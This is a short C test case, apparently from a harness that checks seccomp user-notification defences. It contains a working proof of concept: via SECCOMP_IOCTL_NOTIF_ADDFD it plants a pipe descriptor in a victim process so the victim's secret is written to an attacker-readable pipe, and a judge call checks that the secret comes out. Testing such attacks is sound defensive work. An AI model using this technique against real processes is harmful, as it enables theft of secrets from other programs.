// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * G2. The same, and puts a descriptor of ours into the process: what it takes for its own secret
 * memory file is a pipe that we read.
 * Source: seccomp_unotify(2), SECCOMP_IOCTL_NOTIF_ADDFD. Control: its secret comes out of the pipe.
 */
#define _GNU_SOURCE
#include <linux/seccomp.h>
#include <string.h>
#include <sys/ioctl.h>
#include <unistd.h>

#include "attack.h"
#include "filter.h"

void attack(void)
{
	struct seccomp_notif call = { 0 };
	struct seccomp_notif_addfd planted = { .flags = SECCOMP_ADDFD_FLAG_SEND };
	char said[sizeof(SECRET_TEXT)] = "";
	int ours[2], listener;

	if (pipe(ours))
		broken("pipe");
	start_asking_victim(&listener);
	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_RECV, &call))
		no_effect(errno);
	planted.id = call.id;
	planted.srcfd = (uint32_t)ours[1];
	if (ioctl(listener, SECCOMP_IOCTL_NOTIF_ADDFD, &planted) < 0)
		no_effect(errno);
	judge(read(ours[0], said, sizeof(said) - 1) > 0 && strcmp(said, SECRET_TEXT) == 0);
}
